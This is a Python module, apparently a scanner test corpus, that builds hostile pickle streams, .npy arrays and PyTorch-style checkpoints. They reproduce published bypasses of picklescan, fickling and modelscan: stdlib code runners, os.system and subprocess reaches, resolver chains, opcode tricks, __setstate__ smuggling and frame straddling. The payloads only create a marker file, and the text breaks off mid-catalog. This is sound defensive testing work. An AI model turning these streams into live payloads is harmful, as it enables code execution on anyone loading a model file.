"""Hostile pickle streams, each from a published bypass of a pickle scanner
or of a restricted loader: picklescan's and fickling's security advisories,
modelscan and modelaudit issues, the nullifAI models on Hugging Face
(ReversingLabs), JFrog's picklescan zero-days, CPython's frame divergence
(gh-154848) and CTF write-ups.

Each entry names its source and the technique it shows, and builds its
stream here, opcode by opcode, from scratch. The published proofs of
concept run shell commands; these streams are parameterised by a marker
path instead: loaded by the standard library the way their consumer loads
them, they create that file and touch nothing else. Where a primitive
cannot write a file by itself (an attribute reach, a resolver), the chain
ends in a call that does.

A consumer is how the stream reaches the unpickler in real life:

- ``pickle.loads``: the bytes in memory;
- ``pickle.load``: a file opened ``'rb'``;
- ``Unpickler(BytesIO)``: ``pickle.Unpickler`` on an ``io.BytesIO``;
- ``numpy.load``: an ``.npy`` file of an object array, ``allow_pickle=True``;
- ``zip-data.pkl``: a PyTorch-style zip checkpoint whose ``archive/data.pkl``
  is read by ``pickle.Unpickler`` from the zip member's file object, as
  ``torch.load`` reads it.

The streams that cross the end of their FRAME only show their payload to
C unpicklers that read on past a frame's end from a file: CPython releases
without the gh-154848 fix (it reached 3.13.15 and 3.14.7).
"""

from __future__ import annotations

import io
import marshal
import os
import pickle
import shlex
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from importlib import import_module
from pathlib import Path

PICKLE_LOADS = "pickle.loads"
PICKLE_LOAD = "pickle.load"
UNPICKLER_BYTESIO = "Unpickler(BytesIO)"
NUMPY_LOAD = "numpy.load"
ZIP_DATA_PKL = "zip-data.pkl"

# What the file is called on disk: scanners such as picklescan pick their
# reader by the suffix, so each consumer gets the one its files carry.
SUFFIXES = {
    PICKLE_LOADS: ".pkl",
    PICKLE_LOAD: ".pkl",
    UNPICKLER_BYTESIO: ".pkl",
    NUMPY_LOAD: ".npy",
    ZIP_DATA_PKL: ".pt",
}


@dataclass(frozen=True)
class Hostile:
    name: str
    family: str
    # Where the technique was published: advisory id and URL, or write-up URL.
    source: str
    technique: str
    # The stream (or the .npy/.pt file holding it) for a marker path.
    build: Callable[[str], bytes]
    consumer: str
    # Modules the stdlib's load imports that not every CPython build ships
    # (Debian packages IDLE apart; NumPy is third-party).
    needs: tuple[str, ...] = ()


def picklescan_advisory(ghsa: str) -> str:
    return f"picklescan {ghsa} https://github.com/mmaitre314/picklescan/security/advisories/{ghsa}"


def fickling_advisory(ghsa: str) -> str:
    return f"fickling {ghsa} https://github.com/trailofbits/fickling/security/advisories/{ghsa}"


# The payloads: what the stream runs once it has reached a callable.


def python_writes(marker: str) -> str:
    """Python text that creates the marker: an expression, so eval takes it
    as readily as exec."""
    return f"open({marker!r}, 'w').write('x')"


def process_argv(marker: str) -> list[str]:
    """A process that creates the marker: this interpreter, so the payload
    needs no particular program installed."""
    return [sys.executable, "-c", python_writes(marker)]


def shell_command(marker: str) -> str:
    return shlex.join(process_argv(marker))


def pip_arguments(marker: str) -> list[str]:
    """`pip config list`, which reads configuration files only (nothing
    from the network), writing pip's verbose log to the marker."""
    quiet = ["--isolated", "--disable-pip-version-check", "--no-input"]
    return [*quiet, "--log", marker, "config", "list"]


# Opcodes.

MARK = b"("
STOP = b"."
POP = b"0"
NONE = b"N"
TUPLE = b"t"
TUPLE2 = b"\x86"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
REDUCE = b"R"
BUILD = b"b"
OBJ = b"o"
MEMOIZE = b"\x94"
STACK_GLOBAL = b"\x93"
EXT1 = b"\x82"


def proto(version: int) -> bytes:
    return b"\x80" + bytes([version])


def frame(length: int) -> bytes:
    return b"\x95" + struct.pack("<Q", length)


def global_(module: str, name: str) -> bytes:
    """GLOBAL; from protocol 4 on, `name` may be a dotted path."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def short_binunicode(text: str) -> bytes:
    data = text.encode()
    assert len(data) < 256, text
    return b"\x8c" + bytes([len(data)]) + data


def binunicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short_binstring(text: str) -> bytes:
    """A protocol-1 string: the unpickler decodes it (ASCII by default), so
    it reaches STACK_GLOBAL as a str."""
    data = text.encode("ascii")
    return b"U" + bytes([len(data)]) + data


def unicode_line(text: str) -> bytes:
    """Protocol 0's UNICODE, escaped the way the pickler escapes it."""
    escaped = text.replace("\\", "\\u005c").replace("\n", "\\u000a")
    return b"V" + escaped.encode("raw-unicode-escape") + b"\n"


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def binget(index: int) -> bytes:
    return b"h" + bytes([index])


def put(index: int) -> bytes:
    """Protocol 0's PUT: the memo index as text."""
    return b"p" + str(index).encode() + b"\n"


def get(index: int) -> bytes:
    return b"g" + str(index).encode() + b"\n"


def stack_global(module: str, name: str) -> bytes:
    return short_binunicode(module) + short_binunicode(name) + STACK_GLOBAL


def value(obj: object) -> bytes:
    """Binary opcodes that push a plain value (BINBYTES needs protocol 3)."""
    if obj is None:
        return NONE
    if obj is True:
        return b"\x88"
    if obj is False:
        return b"\x89"
    if isinstance(obj, int):
        return b"J" + struct.pack("<i", obj)
    if isinstance(obj, str):
        return binunicode(obj)
    if isinstance(obj, bytes):
        return binbytes(obj)
    if isinstance(obj, tuple):
        return MARK + b"".join(map(value, obj)) + TUPLE
    if isinstance(obj, list):
        return b"]" + (MARK + b"".join(map(value, obj)) + b"e" if obj else b"")
    if isinstance(obj, dict):
        items = b"".join(value(key) + value(item) for key, item in obj.items())
        return EMPTY_DICT + (MARK + items + b"u" if obj else b"")
    raise TypeError(f"no opcode for {obj!r}")


def call(callable_: bytes, *arguments: bytes) -> bytes:
    """REDUCE: `callable_` applied to the pushed arguments."""
    return callable_ + MARK + b"".join(arguments) + TUPLE + REDUCE


def os_system(marker: str) -> bytes:
    """The plainest payload, as protocol 0 text: os.system on the marker's
    command. Other streams wrap or hide it."""
    return global_("os", "system") + MARK + unicode_line(shell_command(marker)) + TUPLE + REDUCE


# Code runners: stdlib callables that run Python text they are handed,
# each missing from picklescan's denylist when reported.


def interactive_interpreter(marker: str) -> bytes:
    interpreter = call(stack_global("code", "InteractiveInterpreter"))
    runcode = stack_global("code", "InteractiveInterpreter.runcode")
    return proto(4) + call(runcode, interpreter, value(python_writes(marker))) + STOP


def runpy_run_code(marker: str) -> bytes:
    run_code = global_("runpy", "_run_code")
    return proto(3) + call(run_code, value(python_writes(marker)), EMPTY_DICT) + STOP


def timeit_setup(marker: str) -> bytes:
    timeit = global_("timeit", "timeit")
    return proto(3) + call(timeit, value("pass"), value(python_writes(marker))) + STOP


def cprofile_run(marker: str) -> bytes:
    return proto(3) + call(global_("cProfile", "run"), value(python_writes(marker))) + STOP


def profile_run(marker: str) -> bytes:
    return proto(3) + call(global_("profile", "run"), value(python_writes(marker))) + STOP


def trace_runctx(marker: str) -> bytes:
    # Trace(count=0, trace=0) does nothing but run the text.
    tracer = call(stack_global("trace", "Trace"), value(0), value(0))
    runctx = stack_global("trace", "Trace.runctx")
    source = value(python_writes(marker))
    return proto(4) + call(runctx, tracer, source, EMPTY_DICT, EMPTY_DICT) + STOP


def bdb_run(marker: str) -> bytes:
    debugger = call(stack_global("bdb", "Bdb"))
    run = stack_global("bdb", "Bdb.run")
    return proto(4) + call(run, debugger, value(python_writes(marker))) + STOP


def doctest_debug_script(marker: str) -> bytes:
    # pm=True execs the text directly; pm=False would stop in pdb first.
    debug_script = global_("doctest", "debug_script")
    return proto(3) + call(debug_script, value(python_writes(marker)), value(True)) + STOP


def idlelib_get_entity(marker: str) -> bytes:
    get_entity = global_("idlelib.calltip", "get_entity")
    return proto(3) + call(get_entity, value(python_writes(marker))) + STOP


def f2py_getlincoef(marker: str) -> bytes:
    getlincoef = global_("numpy.f2py.crackfortran", "getlincoef")
    return proto(3) + call(getlincoef, value(python_writes(marker)), value([])) + STOP


def numpy_runstring(marker: str) -> bytes:
    runstring = global_("numpy.testing._private.utils", "runstring")
    return proto(3) + call(runstring, value(python_writes(marker)), EMPTY_DICT) + STOP


def marshal_function(marker: str) -> bytes:
    # The code object is marshalled by this interpreter, the one that loads
    # it: marshal's format changes between versions.
    code = marshal.dumps(compile(python_writes(marker), "<pickle>", "exec"))
    code_object = call(global_("marshal", "loads"), value(code))
    function = call(global_("types", "FunctionType"), code_object, EMPTY_DICT)
    return proto(3) + call(function) + STOP


# Processes and files: stdlib callables that start a process or open a
# file for writing, away from the names denylists knew.


def uuid_command(marker: str) -> bytes:
    command = global_("uuid", "_get_command_stdout")
    return proto(3) + call(command, *map(value, process_argv(marker))) + STOP


def imaplib_stream(marker: str) -> bytes:
    # IMAP4_stream runs its command with shell=True, then fails on the
    # missing greeting: after the command has run.
    return proto(3) + call(global_("imaplib", "IMAP4_stream"), value(shell_command(marker))) + STOP


def asyncio_transport_start(marker: str) -> bytes:
    # _start(self, args, shell, stdin, stdout, stderr, bufsize): Popen runs
    # before the dict standing for self refuses the attribute.
    start = stack_global("asyncio.unix_events", "_UnixSubprocessTransport._start")
    arguments = (EMPTY_DICT, value(shell_command(marker)), value(True), NONE, NONE, NONE, value(0))
    return proto(4) + call(start, *arguments) + STOP


def spawnv_passfds(marker: str) -> bytes:
    # A thin wrapper over _posixsubprocess.fork_exec.
    spawn = global_("multiprocessing.util", "spawnv_passfds")
    executable = value(os.fsencode(sys.executable))
    return proto(3) + call(spawn, executable, value(process_argv(marker)), EMPTY_TUPLE) + STOP


def pty_spawn(marker: str) -> bytes:
    return proto(3) + call(global_("pty", "spawn"), value(process_argv(marker))) + STOP


def ensurepip_run_pip(marker: str) -> bytes:
    return proto(3) + call(global_("ensurepip", "_run_pip"), value(pip_arguments(marker))) + STOP


def pip_main(marker: str) -> bytes:
    return proto(3) + call(global_("pip", "main"), value(pip_arguments(marker))) + STOP


def ctypes_libc_system(marker: str) -> bytes:
    libc = call(global_("ctypes", "CDLL"), NONE)
    system = call(global_("builtins", "getattr"), libc, value("system"))
    return proto(3) + call(system, value(shell_command(marker).encode())) + STOP


def io_fileio(marker: str) -> bytes:
    return proto(3) + call(global_("_io", "FileIO"), value(marker), value("w")) + STOP


def logging_file_handler(marker: str) -> bytes:
    return proto(3) + call(global_("logging", "FileHandler"), value(marker)) + STOP


def logging_dict_config(marker: str) -> bytes:
    # The handler class is named by a string inside the config, which
    # dictConfig imports itself.
    handler = {"class": "logging.FileHandler", "filename": marker}
    config = {"version": 1, "handlers": {"marker": handler}}
    return proto(3) + call(global_("logging.config", "dictConfig"), value(config)) + STOP


# Resolvers and attribute chains: one permitted-looking callable or name
# that reaches any other.


def pkgutil_resolve_name(marker: str) -> bytes:
    system = call(global_("pkgutil", "resolve_name"), value("os:system"))
    return proto(3) + call(system, value(shell_command(marker))) + STOP


def pydoc_locate_methodcaller(marker: str) -> bytes:
    command = value(shell_command(marker))
    method = call(global_("operator", "methodcaller"), value("system"), command)
    return proto(3) + call(method, call(global_("pydoc", "locate"), value("os"))) + STOP


def operator_attrgetter(marker: str) -> bytes:
    getter = call(global_("_operator", "attrgetter"), value("system"))
    system = call(getter, call(global_("builtins", "__import__"), value("os")))
    return proto(3) + call(system, value(shell_command(marker))) + STOP


def import_getattr_memo(marker: str) -> bytes:
    """Protocol 0 text: the module and then the function are put in the
    memo, dropped, and got back for the next call."""
    import_ = global_("__builtin__", "__import__")
    getattr_ = global_("__builtin__", "getattr")
    module = import_ + MARK + unicode_line("os") + TUPLE + REDUCE + put(0) + POP
    system = getattr_ + MARK + get(0) + unicode_line("system") + TUPLE + REDUCE + put(1) + POP
    command = MARK + unicode_line(shell_command(marker)) + TUPLE + REDUCE
    return module + system + get(1) + command + STOP


def importlib_vars_get(marker: str) -> bytes:
    """import_module, then vars() and dict.get instead of the getattr
    denylists look for."""
    module = call(stack_global("importlib", "import_module"), value("os"))
    namespace = call(stack_global("builtins", "vars"), module)
    system = call(stack_global("builtins", "dict.get"), namespace, value("system"))
    return proto(4) + call(system, value(shell_command(marker))) + STOP


def pathlib_dotted_os(marker: str) -> bytes:
    # pathlib, as the advisory has it; 3.13 moved its import of os into a
    # submodule, and 3.14 back.
    host = next(
        name for name in ("pathlib", "pathlib._local") if hasattr(import_module(name), "os")
    )
    system = stack_global(host, "os.system")
    return proto(4) + call(system, value(shell_command(marker))) + STOP


def module_builtins_dict(marker: str) -> bytes:
    """Any module's __builtins__ is the builtins dict: dict.get takes exec
    from it."""
    builtins_dict = stack_global("fractions", "__builtins__")
    exec_ = call(stack_global("builtins", "dict.get"), builtins_dict, value("exec"))
    return proto(4) + call(exec_, value(python_writes(marker))) + STOP


# Opcode spellings: the same call, written so that a scanner reading the
# opcodes one way misses the global.


def inst_protocol0(marker: str) -> bytes:
    return MARK + unicode_line(python_writes(marker)) + b"i__builtin__\nexec\n" + STOP


def obj_then_pop(marker: str) -> bytes:
    call_discarded = MARK + stack_global("os", "system") + value(shell_command(marker)) + OBJ + POP
    return proto(4) + call_discarded + NONE + STOP


def stack_global_from_memo(marker: str) -> bytes:
    """The names are memoized (as 0 and 1) and dropped; decoy names are
    pushed and dropped; STACK_GLOBAL takes the real ones back from the
    memo."""
    remembered = short_binunicode("os") + MEMOIZE + POP + short_binunicode("system") + MEMOIZE + POP
    decoys = short_binunicode("collections") + short_binunicode("OrderedDict") + POP + POP
    system = binget(0) + binget(1) + STACK_GLOBAL
    return proto(4) + remembered + decoys + call(system, value(shell_command(marker))) + STOP


def stack_global_binstring(marker: str) -> bytes:
    system = short_binstring("os") + short_binstring("system") + STACK_GLOBAL
    return proto(4) + call(system, value(shell_command(marker))) + STOP


def stack_global_computed(marker: str) -> bytes:
    """STACK_GLOBAL on names that calls compute at load time."""
    join = stack_global("builtins", "str.join")
    module = call(join, value(""), value(["o", "s"]))
    name = call(join, value(""), value(["sys", "tem"]))
    return proto(4) + call(module + name + STACK_GLOBAL, value(shell_command(marker))) + STOP


EXTENSION_CODE = 0xF0


def ext_registry(marker: str) -> bytes:
    """The stream registers os.system in copyreg's extension registry, then
    loads it by number with EXT1: no GLOBAL names it."""
    add_extension = global_("copyreg", "add_extension")
    register = call(add_extension, value("os"), value("system"), value(EXTENSION_CODE))
    system = EXT1 + bytes([EXTENSION_CODE])
    return proto(2) + register + POP + call(system, value(shell_command(marker))) + STOP


def builtin_eval_protocol0(marker: str) -> bytes:
    """Python 2's module name, which fix_imports maps to builtins on load."""
    expression = MARK + unicode_line(python_writes(marker)) + TUPLE
    return global_("__builtin__", "eval") + expression + REDUCE + STOP


# BUILD writes to globals: its slot state is setattr on whatever object is
# on the stack, a module-level function included.

# A module-level Python function, so it takes attributes, and one the
# data profile allows.
HOST = ("copyreg", "_reconstructor")


def build_planted_names(marker: str) -> bytes:
    """BUILD sets two attributes of a harmless function to "os" and
    "system"; GLOBAL reads them back as dotted names for STACK_GLOBAL."""
    module, function = HOST
    names = {"planted_module": "os", "planted_name": "system"}
    plant = stack_global(module, function) + NONE + value(names) + TUPLE2 + BUILD + POP
    read_back = global_(module, f"{function}.planted_module")
    read_back += global_(module, f"{function}.planted_name")
    return proto(4) + plant + call(read_back + STACK_GLOBAL, value(shell_command(marker))) + STOP


def build_sys_modules(marker: str) -> bytes:
    """BUILD with sys.modules (reached through a module that imports sys)
    as slot state: every loaded module becomes an attribute of a harmless
    function, os among them."""
    module, function = HOST
    sys_modules = stack_global("fractions", "sys.modules")
    plant = stack_global(module, function) + NONE + sys_modules + TUPLE2 + BUILD
    system = stack_global(module, f"{function}.os.system")
    return proto(4) + plant + POP + call(system, value(shell_command(marker))) + STOP


# __setstate__ smuggling: BUILD calls whatever __setstate__ it finds, with
# the state as argument; a dangerous callable planted under that name is
# called with no REDUCE in sight. (tests/test_restricted_smuggling.py plants
# allowed callables on instances; these plant a dangerous one.)


def planted_setstate(system: bytes) -> bytes:
    return EMPTY_DICT + MARK + short_binunicode("__setstate__") + system + b"u"


def setstate_on_class(marker: str) -> bytes:
    """On the class: every Counter the process builds afterwards calls it."""
    counter = stack_global("collections", "Counter")
    plant = counter + NONE + planted_setstate(stack_global("os", "system")) + TUPLE2 + BUILD + POP
    instance = call(stack_global("collections", "Counter"))
    return proto(4) + plant + instance + value(shell_command(marker)) + BUILD + STOP


def setstate_on_instance_slots(marker: str) -> bytes:
    """On an instance, through the slot-state setattr rather than the
    __dict__ update."""
    namespace = call(stack_global("types", "SimpleNamespace"))
    plant = NONE + planted_setstate(stack_global("os", "system")) + TUPLE2 + BUILD
    return proto(4) + namespace + plant + value(shell_command(marker)) + BUILD + STOP


# Nested pickles: the dangerous globals sit inside a bytes value that an
# outer call unpickles.


def nested_binbytes(marker: str) -> bytes:
    inner = os_system(marker) + STOP
    return proto(3) + call(global_("_pickle", "loads"), value(inner)) + STOP


def nested_codecs_text(marker: str) -> bytes:
    """Protocol 0 throughout: the inner pickle's bytes are spelled
    _codecs.encode(text, "latin1"), as protocol 0 spells any bytes."""
    inner = (os_system(marker) + STOP).decode("latin1")
    encoded = MARK + unicode_line(inner) + unicode_line("latin1") + TUPLE
    inner_bytes = global_("_codecs", "encode") + encoded + REDUCE
    return global_("pickle", "loads") + MARK + inner_bytes + TUPLE + REDUCE + STOP


# Broken streams: the payload runs, then the stream breaks, so a scanner
# that gives up at the error reports nothing.


def broken_truncated(marker: str) -> bytes:
    return proto(2) + os_system(marker) + MARK + binunicode("unfinished")


def broken_bad_opcode(marker: str) -> bytes:
    return proto(2) + os_system(marker) + b"\xff" + STOP


# torch's legacy (pre-zip) format: the first pickle holds this number.
TORCH_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


def torch_legacy_magic(marker: str) -> bytes:
    """The legacy checkpoint's first pickle computes its magic number with
    eval; the protocol-version and sys-info pickles of the format follow."""
    expression = f"({python_writes(marker)}, {TORCH_LEGACY_MAGIC:#x})[1]"
    magic = call(global_("builtins", "eval"), value(expression))
    protocol_version = value(1001)
    sys_info = value({"protocol_version": 1001, "little_endian": True})
    return b"".join(proto(2) + pushed + STOP for pushed in (magic, protocol_version, sys_info))


def broken_in_checkpoint(marker: str) -> bytes:
    return torch_zip(broken_truncated(marker))


# Archives and arrays: the pickle travels inside a checkpoint or an array.


def torch_zip(data_pkl: bytes) -> bytes:
    """A zip laid out as torch.save lays out a checkpoint, members stored."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", data_pkl)
        archive.writestr("archive/byteorder", "little")
        archive.writestr("archive/version", "3\n")
    return out.getvalue()


def npy_object_array(pickled: bytes) -> bytes:
    """An .npy file (format 1.0) whose object array is stored as `pickled`."""
    header = repr({"descr": "|O", "fortran_order": False, "shape": (1,)}).encode("latin1")
    # NumPy pads the header with spaces and a newline to a multiple of 64.
    preamble = 10
    padding = -(preamble + len(header) + 1) % 64
    header += b" " * padding + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


def checkpoint_with_reduce(marker: str) -> bytes:
    return torch_zip(proto(2) + os_system(marker) + STOP)


# More than the C unpickler's first read (128 KiB): zipfile checks the CRC
# at the member's end, which it has not reached when the payload runs.
CRC_PADDING = 1 << 18


def checkpoint_with_bad_crc(marker: str) -> bytes:
    """data.pkl's stored CRC is wrong: a reader that checks it stops,
    torch.load does not. The payload comes first and the unpickler stops
    at STOP, long before the end of the member."""
    data_pkl = proto(2) + os_system(marker) + STOP + b"\0" * CRC_PADDING
    archive = torch_zip(data_pkl)
    crc = struct.pack("<I", zipfile.ZipFile(io.BytesIO(archive)).getinfo("archive/data.pkl").CRC)
    # The CRC sits in the local header and in the central directory.
    assert archive.count(crc) == 2
    return archive.replace(crc, struct.pack("<I", ~int.from_bytes(crc, "little") & 0xFFFFFFFF))


def npy_with_reduce(marker: str) -> bytes:
    return npy_object_array(proto(2) + os_system(marker) + STOP)


# Frame straddling: a BINUNICODE whose data runs past the end of its
# FRAME. From memory, CPython's C unpickler reads on into the bytes that
# follow. From a file it has read the frame into a buffer of its own; at
# the buffer's end it drops what is left of the frame and reads the full
# length afresh from the file, so the bytes after the frame are split
# differently and hidden opcodes run. A frame bigger than a
# BufferedReader's buffer makes the file reader take that path.
FRAME_FILLER = 1 << 14
INSIDE_FRAME = b"fffff"
AFTER_FRAME = b"aa"


def straddling(inside: bytes, hidden: bytes) -> bytes:
    """A frame holding `inside`, then a straddling BINUNICODE; `hidden`, the
    opcodes of one pushed value, run only for a reader of a file."""
    filler = binunicode("f" * FRAME_FILLER) + POP
    # From memory: the text INSIDE_FRAME + AFTER_FRAME, then `hides`, a
    # BINUNICODE header whose text is `hidden`. From a file: the text
    # AFTER_FRAME + `hides` (its length bytes are ASCII, so they decode),
    # then `hidden` runs.
    hides = b"X" + struct.pack("<I", len(hidden))
    assert len(hidden) < 0x80 and len(hides) == len(INSIDE_FRAME)
    straddler = b"X" + struct.pack("<I", len(INSIDE_FRAME) + len(AFTER_FRAME)) + INSIDE_FRAME
    body = inside + filler + straddler
    # Either way one value sits above the straddler's text; POP drops it.
    return proto(4) + frame(len(body)) + body + AFTER_FRAME + hides + hidden + POP + STOP


def frame_straddle(marker: str) -> bytes:
    # The command is memoized inside the frame, where both readers see it
    # as data; only the hidden call uses it.
    command = binunicode(shell_command(marker)) + MEMOIZE + POP
    return straddling(command, global_("os", "system") + MARK + binget(0) + TUPLE + REDUCE)


def frame_straddle_checkpoint(marker: str) -> bytes:
    return torch_zip(frame_straddle(marker))


def frame_straddle_npy(marker: str) -> bytes:
    return npy_object_array(frame_straddle(marker))


# The catalog.

RUNNERS = "code runners"
PROCESSES = "processes and files"
RESOLVERS = "resolvers and attribute chains"
SPELLINGS = "opcode spellings"
BUILD_GLOBALS = "BUILD writes to globals"
SMUGGLING = "__setstate__ smuggling"
NESTED = "nested pickles"
BROKEN = "broken streams"
CONTAINERS = "archives and arrays"
FRAMES = "frame straddling"

REVERSINGLABS_NULLIFAI = (
    "ReversingLabs nullifAI "
    "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
)
JFROG_BACKDOORED_MODELS = (
    "JFrog https://jfrog.com/blog/"
    "data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/"
)
JFROG_ZERO_DAYS = "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"
MODELSCAN_85 = "https://github.com/protectai/modelscan/issues/85"
FRAME_DIVERGENCE = "CPython gh-154848 https://github.com/python/cpython/issues/154848"

HOSTILE = (
    Hostile(
        "code.InteractiveInterpreter.runcode",
        RUNNERS,
        picklescan_advisory("GHSA-cj3c-v495-4xqh"),
        "REDUCE builds an InteractiveInterpreter; its runcode, a dotted name, execs text",
        interactive_interpreter,
        PICKLE_LOADS,
    ),
    Hostile(
        "runpy._run_code",
        RUNNERS,
        "picklescan #27 https://github.com/mmaitre314/picklescan/pull/27",
        "runpy's private helper execs text into a dict the pickle supplies",
        runpy_run_code,
        PICKLE_LOADS,
    ),
    Hostile(
        "timeit.timeit",
        RUNNERS,
        picklescan_advisory("GHSA-v7x6-rv5q-mhwc"),
        "timeit compiles and runs its setup statement",
        timeit_setup,
        PICKLE_LOADS,
    ),
    Hostile(
        "cProfile.run",
        RUNNERS,
        picklescan_advisory("GHSA-49gj-c84q-6qm9"),
        "the profiler execs its statement in __main__",
        cprofile_run,
        PICKLE_LOADS,
    ),
    Hostile(
        "profile.run",
        RUNNERS,
        picklescan_advisory("GHSA-7wx9-6375-f5wh"),
        "the pure-Python profiler, left off the list when cProfile was added",
        profile_run,
        PICKLE_LOADS,
    ),
    Hostile(
        "trace.Trace.runctx",
        RUNNERS,
        picklescan_advisory("GHSA-g344-hcph-8vgg"),
        "a Trace built by REDUCE runs text through the unbound runctx",
        trace_runctx,
        PICKLE_LOADS,
    ),
    Hostile(
        "bdb.Bdb.run",
        RUNNERS,
        "picklescan #29 https://github.com/mmaitre314/picklescan/pull/29",
        "the debugger base class execs its command under a trace function",
        bdb_run,
        PICKLE_LOADS,
    ),
    Hostile(
        "doctest.debug_script",
        RUNNERS,
        picklescan_advisory("GHSA-fqq6-7vqf-w3fg"),
        "doctest's debugging helper execs the script (pm=True skips the pdb prompt)",
        doctest_debug_script,
        PICKLE_LOADS,
    ),
    Hostile(
        "idlelib.calltip.get_entity",
        RUNNERS,
        picklescan_advisory("GHSA-9xph-j2h6-g47v"),
        "IDLE's call-tip helper evals an expression over sys.modules",
        idlelib_get_entity,
        PICKLE_LOADS,
        needs=("idlelib.calltip",),
    ),
    Hostile(
        "numpy.f2py.crackfortran.getlincoef",
        RUNNERS,
        picklescan_advisory("GHSA-r8g5-cgf2-4m4m"),
        "f2py's Fortran parser evals the expression it is given",
        f2py_getlincoef,
        PICKLE_LOADS,
        needs=("numpy",),
    ),
    Hostile(
        "numpy.testing runstring",
        RUNNERS,
        "picklescan #40 https://github.com/mmaitre314/picklescan/pull/40",
        "a NumPy test helper execs text in a dict the pickle supplies",
        numpy_runstring,
        PICKLE_LOADS,
        needs=("numpy",),
    ),
    Hostile(
        "marshal.loads + types.FunctionType",
        RUNNERS,
        fickling_advisory("GHSA-565g-hwwr-4pp3"),
        "a code object from marshal bytes becomes a function, which REDUCE calls",
        marshal_function,
        PICKLE_LOADS,
    ),
    Hostile(
        "uuid._get_command_stdout",
        PROCESSES,
        picklescan_advisory("GHSA-g38g-8gr9-h9xp"),
        "uuid's private helper runs any program found on PATH with the pickle's arguments",
        uuid_command,
        PICKLE_LOADS,
    ),
    Hostile(
        "imaplib.IMAP4_stream",
        PROCESSES,
        picklescan_advisory("GHSA-g38g-8gr9-h9xp"),
        "the IMAP-over-a-pipe client starts its command with shell=True",
        imaplib_stream,
        PICKLE_LOADS,
    ),
    Hostile(
        "asyncio _UnixSubprocessTransport._start",
        PROCESSES,
        f"{picklescan_advisory('GHSA-q77w-mwjj-7mqx')}; JFrog CVE-2025-10157 {JFROG_ZERO_DAYS}",
        "a private asyncio method, called with a dict for self, starts Popen(shell=True)",
        asyncio_transport_start,
        PICKLE_LOADS,
    ),
    Hostile(
        "multiprocessing.util.spawnv_passfds",
        PROCESSES,
        fickling_advisory("GHSA-q5qq-mvfm-j35x"),
        "multiprocessing's spawn helper calls _posixsubprocess.fork_exec on the pickle's argv",
        spawnv_passfds,
        PICKLE_LOADS,
    ),
    Hostile(
        "pty.spawn",
        PROCESSES,
        f"{picklescan_advisory('GHSA-vqmv-47xg-9wpr')}; {fickling_advisory('GHSA-r7v6-mfhq-g3m2')}",
        "pty.spawn forks and execs the pickle's argv on a pseudo-terminal",
        pty_spawn,
        PICKLE_LOADS,
    ),
    Hostile(
        "ensurepip._run_pip",
        PROCESSES,
        picklescan_advisory("GHSA-xp4f-hrf8-rxw7"),
        "ensurepip runs pip in a child with the pickle's arguments; --log writes the marker",
        ensurepip_run_pip,
        PICKLE_LOADS,
    ),
    Hostile(
        "pip.main",
        PROCESSES,
        "Sonatype CVE-2025-1716 https://osv.dev/vulnerability/CVE-2025-1716",
        "pip's entry point runs any pip command in-process (--log writes the marker)",
        pip_main,
        PICKLE_LOADS,
    ),
    Hostile(
        "ctypes.CDLL system",
        PROCESSES,
        picklescan_advisory("GHSA-4675-36f9-wf6r"),
        "CDLL(None) is the C library; getattr fetches system() and REDUCE calls it",
        ctypes_libc_system,
        PICKLE_LOADS,
    ),
    Hostile(
        "_io.FileIO",
        PROCESSES,
        picklescan_advisory("GHSA-9726-w42j-3qjr"),
        "io.FileIO's real module name, _io, was not on the list: it opens any path for writing",
        io_fileio,
        PICKLE_LOADS,
    ),
    Hostile(
        "logging.FileHandler",
        PROCESSES,
        picklescan_advisory("GHSA-m7j5-r2p5-c39r"),
        "a logging handler creates the file it is given",
        logging_file_handler,
        PICKLE_LOADS,
    ),
    Hostile(
        "logging.config.dictConfig",
        PROCESSES,
        picklescan_advisory("GHSA-m7j5-r2p5-c39r"),
        "dictConfig imports the FileHandler class from a string in its config: no GLOBAL names it",
        logging_dict_config,
        PICKLE_LOADS,
    ),
    Hostile(
        "pkgutil.resolve_name",
        RESOLVERS,
        picklescan_advisory("GHSA-vvpj-8cmc-gx39"),
        "one resolver turns 'os:system' into the function: every denylisted name behind one",
        pkgutil_resolve_name,
        PICKLE_LOADS,
    ),
    Hostile(
        "pydoc.locate + operator.methodcaller",
        RESOLVERS,
        picklescan_advisory("GHSA-84r2-jw7c-4r5q"),
        "pydoc.locate imports os by name; a methodcaller calls its system",
        pydoc_locate_methodcaller,
        PICKLE_LOADS,
    ),
    Hostile(
        "_operator.attrgetter",
        RESOLVERS,
        picklescan_advisory("GHSA-955r-x9j8-7rhh"),
        "attrgetter under its C module's name _operator, where the denylist only had operator",
        operator_attrgetter,
        PICKLE_LOADS,
    ),
    Hostile(
        "__import__ + getattr through the memo",
        RESOLVERS,
        fickling_advisory("GHSA-h4rm-mm56-xf63"),
        "protocol 0: __import__('os') and getattr(os, 'system') pass through PUT/GET between calls",
        import_getattr_memo,
        PICKLE_LOADS,
    ),
    Hostile(
        "importlib.import_module + vars + dict.get",
        RESOLVERS,
        "picklescan #66 https://github.com/mmaitre314/picklescan/issues/66",
        "import_module returns os; vars and dict.get take system from it without getattr",
        importlib_vars_get,
        PICKLE_LOADS,
    ),
    Hostile(
        "pathlib.os.system",
        RESOLVERS,
        fickling_advisory("GHSA-5j3x-jp52-966f"),
        "a dotted STACK_GLOBAL name walks from a harmless module to the os it imported",
        pathlib_dotted_os,
        PICKLE_LOADS,
    ),
    Hostile(
        "module.__builtins__ + dict.get",
        RESOLVERS,
        "modelscan #89 https://github.com/protectai/modelscan/issues/89",
        "a harmless module's __builtins__ is the builtins dict; dict.get takes exec from it",
        module_builtins_dict,
        PICKLE_LOADS,
    ),
    Hostile(
        "INST",
        SPELLINGS,
